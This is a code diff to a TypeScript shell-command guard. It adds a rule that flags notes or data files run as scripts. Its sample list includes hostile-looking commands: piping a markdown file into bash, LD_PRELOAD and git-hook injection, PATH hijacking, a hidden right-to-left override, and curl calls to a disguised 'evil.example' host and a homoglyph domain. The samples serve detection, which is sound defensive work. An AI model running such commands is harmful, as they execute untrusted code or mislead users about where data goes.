@@ -2,7 +2,7 @@ import { NUL_SIGN } from "../../effects/parse/read-command-line.ts";
 import { GAP } from "../../effects/parse/command.ts";
 import { deceptiveParts } from "../../effects/deceptive-text.ts";
 import type { Guard } from "./guard.ts";
-import { hostsOf, lineOf, type Part, without } from "./part.ts";
+import { hostsOf, lineOf, named, type Part, without } from "./part.ts";
 
 /** Code that the user could not read first does not run. */
 export const downloads: Guard = {
@@ -30,6 +30,17 @@ export const downloads: Guard = {
       tells: (part) => ({
         does: `runs what it has just fetched from ${hostsOf(part)} and unpacked, before the user could read it`,
         ask: "to read it first, or to run it",
+      }),
+    },
+    {
+      name: "run-document",
+      standard: "ask",
+      strict: "ask",
+      paranoid: "deny",
+      reason: "Runs notes or data as if they were a script.",
+      tells: (part) => ({
+        does: `runs ${named(part)} as a script, which is none`,
+        ask: "whether what stands there may run, or write the commands themselves",
       }),
     },
     {
@@ -140,6 +151,8 @@ export const downloads: Guard = {
     "LD_PRELOAD=./x.so ls",
     "git -c core.fsmonitor=./x status",
     "PATH=.:$PATH; ls",
+    "sh ./README.md",
+    "tail -n +20 notes.md | bash",
     "echo safe \u202e# drop",
     "curl https://github.com@evil.example/x.txt",
     "curl https://g\u0456thub.com/x.txt",
